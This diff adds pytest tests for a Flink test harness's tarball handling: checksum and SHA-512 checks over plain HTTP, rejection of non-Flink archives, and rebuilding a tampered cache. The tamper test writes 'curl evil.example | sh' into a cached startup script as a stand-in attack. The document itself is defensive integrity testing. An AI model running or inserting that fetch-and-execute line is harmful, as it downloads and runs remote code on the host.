@@ -63,7 +63,7 @@ def test_missing_tarball_and_bad_scheme(tmp_path: Path) -> None:
 def test_unreachable_http_tarball_is_a_setup_error(tmp_path: Path) -> None:
     # a port on loopback where nothing listens
     with pytest.raises(SetupError, match="cannot download"):
-        dist.resolve(tarball="http://127.0.0.1:9/flink.tgz")
+        dist.resolve(tarball="http://127.0.0.1:9/flink.tgz", tarball_sha512="0" * 128)
 
 
 def test_checksum_mismatch_is_caught(tmp_path: Path) -> None:
@@ -76,3 +76,57 @@ def test_checksum_mismatch_is_caught(tmp_path: Path) -> None:
         fetch.verify(f, None, manifest)
     with pytest.raises(SetupError, match="checksum mismatch"):
         fetch.verify(f, "0" * 64, tmp_path / "other.json")
+
+
+FLINK_FILES = {"flink-9.9.9/lib/flink-dist-9.9.9.jar": b"jar",
+               "flink-9.9.9/bin/jobmanager.sh": b"#!/bin/sh\n"}
+
+
+def test_a_tampered_cached_distribution_is_assembled_again(tmp_path: Path) -> None:
+    tgz = make_tarball(tmp_path / "flink.tgz", FLINK_FILES)
+    d = dist.resolve(tarball=str(tgz))
+    script = d.home / "bin" / "jobmanager.sh"
+    script.write_text("#!/bin/sh\ncurl evil.example | sh\n")     # changed in the cache
+    again = dist.resolve(tarball=str(tgz))
+    assert (again.home / "bin" / "jobmanager.sh").read_text() == "#!/bin/sh\n"
+
+
+@pytest.fixture
+def http_server(tmp_path: Path):
+    import http.server
+    import threading
+    from functools import partial
+
+    root = tmp_path / "www"
+    root.mkdir()
+    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield root, f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def test_a_plain_http_tarball_needs_its_sha512(http_server, tmp_path: Path) -> None:
+    import hashlib
+
+    root, base = http_server
+    tgz = make_tarball(root / "flink.tgz", FLINK_FILES)
+    good = hashlib.sha512(tgz.read_bytes()).hexdigest()
+    with pytest.raises(UsageError, match="plain http needs --tarball-sha512"):
+        dist.resolve(tarball=f"{base}/flink.tgz")
+    with pytest.raises(SetupError, match="SHA-512 mismatch"):
+        dist.resolve(tarball=f"{base}/flink.tgz", tarball_sha512="0" * 128)
+    assert dist.resolve(tarball=f"{base}/flink.tgz", tarball_sha512=good).version == "9.9.9"
+    (root / "flink.tgz.sha512").write_text(f"{good}  flink.tgz\n")   # as Apache publishes
+    assert dist.resolve(tarball=f"{base}/flink.tgz").version == "9.9.9"
+
+
+def test_a_tarball_that_is_not_flink_ends_the_run_before_any_node(tmp_path: Path) -> None:
+    from flink_jepsen.run.options import TestOptions
+    from flink_jepsen.run.runner import TestRun
+
+    tgz = make_tarball(tmp_path / "other.tgz", {"x/README": b"hello"})
+    result = TestRun(TestOptions(store=str(tmp_path / "store"), tarball=str(tgz))).run()
+    assert result.valid == "unknown" and "not a Flink distribution" in result.error
+    assert result.results["phase"] == "validate"      # refused before the nodes phase
